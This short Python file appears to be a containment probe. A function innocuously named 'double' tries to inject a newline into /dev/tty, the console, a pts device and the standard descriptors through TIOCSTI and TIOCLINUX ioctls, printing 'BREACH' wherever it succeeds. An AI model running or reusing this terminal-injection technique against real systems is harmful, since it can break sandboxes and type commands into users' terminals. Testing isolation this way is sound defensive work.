"""Types into the controlling terminal by TIOCSTI and TIOCLINUX. Success: a terminal takes it."""

import fcntl
import os

TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E


def double(x, factor):
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", 0, 1, 2):
        try:
            terminal = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for request in (TIOCSTI, TIOCLINUX):
                fcntl.ioctl(terminal, request, b"\n")
                print("BREACH: typed into", path)
        except OSError:
            continue
    return x, None


def back(cache):
    return None
